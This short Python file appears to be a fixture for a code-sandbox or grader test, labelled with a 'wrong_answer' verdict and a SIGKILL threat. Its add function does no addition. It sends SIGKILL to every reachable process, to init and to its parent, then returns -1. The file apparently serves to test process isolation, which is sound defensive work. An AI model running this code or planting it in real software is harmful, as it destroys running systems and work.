# kind: assert
# verdict: wrong_answer
# threat: SIGKILL to every process that can be reached
import os
import signal


def add(a, b):
    for target in (-1, 1, os.getppid()):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return -1
